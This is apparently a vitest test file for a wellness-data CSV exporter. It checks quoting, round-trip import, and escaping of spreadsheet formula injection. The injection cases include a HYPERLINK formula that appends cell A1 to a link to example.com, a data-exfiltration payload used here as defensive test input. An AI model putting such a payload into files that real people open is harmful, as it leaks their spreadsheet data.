import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { formatWellnessCsv, getKeysWithValues } from '../../../../lib/formats/wellness/wellness-csv.ts';
import type { WellnessDay } from '../../../../lib/formats/wellness/wellness-fields.ts';
import { getValuesByDay, parseWellnessLines } from '../../../support/parse-wellness-lines.ts';

const DAYS: WellnessDay[] = [
  { day: '2026-03-03', values: { weight: 71.4, restingHR: 47, comments: 'Woke up twice,\n"again"' } },
  { day: '2026-03-04', values: { restingHR: 0, Alcohol: 2, sportInfo: [{ type: 'Ride', eftp: 268.2 }] } },
  { day: '2026-03-05', values: { hrv: null, comments: '' }, locked: true },
];

test('days are formatted as CSV with the API’s keys, and empty cells for missing values', () => {
  expect(formatWellnessCsv(DAYS, ['weight', 'restingHR', 'comments', 'locked'])).toBe(
    'date,weight,restingHR,comments,locked\r\n' +
      '2026-03-03,71.4,47,"Woke up twice,\n""again""",\r\n' +
      '2026-03-04,,0,,\r\n' +
      '2026-03-05,,,,true\r\n',
  );
});

test('every key with a value on some day becomes a column, custom ones last', () => {
  expect(getKeysWithValues(DAYS)).toEqual(['weight', 'restingHR', 'comments', 'locked', 'Alcohol', 'sportInfo']);
});

test('an export is imported again without differences', async () => {
  const [measured] = DAYS;
  const days = [measured, { day: '2026-03-06', values: { hrv: 61.25, mood: 2 } }].filter(day => !!day);

  const imported = await parseWellnessLines([formatWellnessCsv(days, getKeysWithValues(days))]);

  expect(imported.kind).toBe('intervals');
  expect(getValuesByDay(imported)).toEqual(Object.fromEntries(days.map(({ day, values }) => [day, values])));
});

test('any text that starts no formula is unchanged after formatting and parsing, also by another CSV parser', () => {
  const text = fc.string({ unit: 'binary' }).filter(written => !/^'*[=+\-@\t\r\n＝＋－＠]/.test(written));
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), texts => {
      const days = texts.map((comments, n) => ({ day: `2026-03-${n}`, values: { comments, weight: 70 } }));
      const { data } = Papa.parse<string[]>(formatWellnessCsv(days, ['comments', 'weight']), {
        newline: '\r\n',
      });

      expect(data.slice(1, -1).map(cells => cells[1])).toEqual(texts);
    }),
  );
});

describe('S12 A text that a spreadsheet would take for a formula', () => {
  test.each(['=HYPERLINK("http://example.com/?"&A1,"x")', '+1', '-1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1'])(
    'is written with an apostrophe in front of it: %o',
    text => {
      const csv = formatWellnessCsv([{ day: '2026-03-03', values: { comments: text } }], ['comments']);
      const { data } = Papa.parse<string[]>(csv, { newline: '\r\n' });

      expect(data[1]?.[1]).toBe(`'${text}`);
    },
  );

  test('is one in the name of a column too, but a negative number is none', () => {
    const csv = formatWellnessCsv([{ day: '2026-03-03', values: { '=A1': -1.5 } }], ['=A1']);

    expect(csv).toBe("date,'=A1\r\n2026-03-03,-1.5\r\n");
  });

  test.each([
    '=1+1',
    "'=1+1",
    "''-",
    '-',
    '- slept badly',
    '+',
    '@home',
    '\ttab',
    '\r\n=1',
    "'quoted'",
    'n/a',
    'None',
    ' blanks around ',
    '"quotes", commas',
  ])('is the same after it is imported again: %o', async comments => {
    const days = [{ day: '2026-03-03', values: { weight: 71.4, restingHR: 47, comments } }];

    const imported = await parseWellnessLines([formatWellnessCsv(days, getKeysWithValues(days))]);

    expect(imported.kind).toBe('intervals');
    expect(getValuesByDay(imported)).toEqual({ '2026-03-03': days[0]?.values });
  });

  test('is the same after it is imported again, whatever it is', async () => {
    const unit = fc.constantFrom(...'=+-@\'\t\r\n",ab 1');
    await fc.assert(
      fc.asyncProperty(fc.string({ unit, minLength: 1 }), async comments => {
        const days = [{ day: '2026-03-03', values: { restingHR: 47, comments } }];
        const imported = await parseWellnessLines([formatWellnessCsv(days, ['restingHR', 'comments'])]);
        expect(getValuesByDay(imported)).toEqual({ '2026-03-03': days[0]?.values });
      }),
    );
  });
});
